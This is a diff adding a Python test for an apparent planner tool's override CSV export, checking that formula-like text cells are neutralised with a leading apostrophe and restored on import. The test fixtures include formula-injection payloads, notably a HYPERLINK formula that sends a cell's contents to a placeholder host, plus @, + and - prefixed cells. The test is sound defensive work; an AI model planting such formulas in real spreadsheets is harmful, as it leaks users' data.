@@ -767,3 +767,40 @@ def test_a_category_override_from_the_cli_sums_to_its_value_every_night(demo_env
     assert (later.override_ids == "2").all()
     rest = fc.drop(inside.index).drop(later.index)
     assert rest.override_ids.isna().all() and (rest.yhat_final == rest.yhat).all()
+
+
+def test_a_csv_written_for_a_spreadsheet_runs_no_formula_and_reads_back_the_same(
+    planner_db, capsys, tmp_path
+):
+    """`list --csv`: text cells a spreadsheet would run as a formula start with `'`; `import`
+    takes it off again, so the file a planner edits gives back the same text."""
+    path, cfg = planner_db
+    hostile = ['=HYPERLINK("http://x.test/?"&A1,"click")', "+1 555 0100", "-2 cases", "@SUM(A1)", "\t=1+1"]
+    header = "sku,warehouse,start_date,end_date,value,relative_change,author,reason,expires_on\n"
+    rows = [
+        f'S0000,W1,2026-11-24,2026-11-25,12,,"{hostile[3]}","{hostile[0].replace(chr(34), chr(34) * 2)}",\n',
+        f'S0000,W2,2026-11-24,2026-11-25,,-0.5,ann,"{hostile[1]}",\n',
+        f'S0001,W1,2026-11-24,2026-11-25,3,,ann,"{hostile[2]}",\n',
+        f'S0001,W2,2026-11-24,2026-11-25,4,,ann,"{hostile[4]}",\n',
+    ]
+    given = tmp_path / "given.csv"
+    given.write_text(header + "".join(rows))
+    assert seam("override", "import", "--config", str(path), "--today", TODAY, str(given)) == 0
+    first = stored(cfg)
+    assert set(first.reason) == {hostile[0], hostile[1], hostile[2], hostile[4]} and "@SUM(A1)" in set(
+        first.author
+    )
+    out = tmp_path / "export.csv"
+    assert seam("override", "list", "--config", str(path), "--today", TODAY, "--csv", str(out)) == 0
+    assert f"wrote 4 override(s) to {out}" in capsys.readouterr().out
+    written = pd.read_csv(out, dtype=str, keep_default_na=False)
+    for column in ("reason", "author"):  # no cell a spreadsheet runs
+        assert not written[column].str.match(r"[=+\-@\t\r]").any(), written[column].tolist()
+    assert "'=HYPERLINK(" in written["reason"].iloc[0] and written["author"].iloc[0] == "'@SUM(A1)"
+    assert written["relative_change"].tolist() == ["", "-0.5", "", ""]  # numbers are written as numbers
+    # the exported file, with its dates moved on, is imported as new overrides with the same text
+    moved = written.assign(start_date="2026-11-28", end_date="2026-11-29")
+    moved.to_csv(out, index=False)
+    assert seam("override", "import", "--config", str(path), "--today", TODAY, str(out)) == 0
+    second = stored(cfg).iloc[4:]
+    assert second.reason.tolist() == first.reason.tolist() and second.author.tolist() == first.author.tolist()
